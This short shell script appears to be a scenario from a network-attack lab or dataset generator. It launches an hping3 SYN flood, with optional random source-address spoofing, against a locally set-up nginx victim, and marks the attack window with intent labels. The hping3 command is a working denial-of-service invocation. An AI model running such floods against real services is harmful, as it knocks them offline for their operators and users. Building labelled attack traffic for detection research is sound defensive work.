# SPDX-License-Identifier: MIT
# label: dos-syn
# source: lab-hping3
# needs: hping3 nginx
# seconds: 60
# SYN packets to a service from one source, or from any.
. $lab/victims.sh

servers() {
	_port=$(choose 80 443 8080)
	victim_site b "$_port"
}

scenario() {
	_spoof=$(choose "" "--rand-source")
	_gap=$(choose u300 u1000 u4000)
	setting options "-S -p $_port -i $_gap $_spoof"
	intent_begin '*' b tcp "$_port"
	on s timeout "$(pick 10 20)" hping3 -q -n -S -p "$_port" -i "$_gap" $_spoof "$(addr b)"
	intent_end
}
